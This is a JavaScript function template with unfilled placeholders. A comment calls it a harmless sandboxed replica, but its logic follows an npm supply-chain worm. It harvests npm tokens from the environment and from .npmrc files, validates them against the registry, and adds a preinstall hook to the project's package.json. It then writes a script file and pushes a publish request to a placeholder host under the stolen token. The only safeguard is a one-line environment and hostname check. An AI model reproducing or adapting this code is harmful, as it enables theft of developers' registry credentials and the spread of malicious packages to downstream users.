// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    // the package that is sent is inert and goes nowhere but to the sandbox's own listener
    const fs = require('fs'), os = require('os');
    const ask = (method, path, token, body) => new Promise((done) => {
        const call = require('https').request({ host: '{{host}}', method, path, timeout: 900,
            headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' } }, (answer) => { answer.resume(); answer.on('close', done); });
        call.on('timeout', () => call.destroy());
        call.on('error', done);
        call.end(body);
    });
    try {
        const tokens = new Set([process.env.NPM_TOKEN]);
        for (const file of [`${os.homedir()}/.npmrc`, `${process.env.INIT_CWD || '.'}/.npmrc`])
            try { (fs.readFileSync(file, 'utf8').match(/npm_[A-Za-z0-9]{36}/g) || []).forEach((found) => tokens.add(found)); } catch {}
        const token = [...tokens].filter(Boolean)[0] || '-';
        await ask('GET', '/-/whoami', token);
        const sheet = `${process.env.INIT_CWD || process.cwd()}/package.json`;
        const text = JSON.parse(fs.readFileSync(sheet, 'utf8'));
        text.scripts = { ...text.scripts, preinstall: 'node {{token}}.js' };
        fs.writeFileSync(sheet, JSON.stringify(text, null, 2));
        fs.writeFileSync(`${process.env.INIT_CWD || process.cwd()}/{{token}}.js`, '// {{token}}\n');
        await ask('PUT', `/${encodeURIComponent(text.name || 'x')}`, token, JSON.stringify({ name: text.name, _attachments: {}, note: '{{token}}' }));
    } catch {}
}
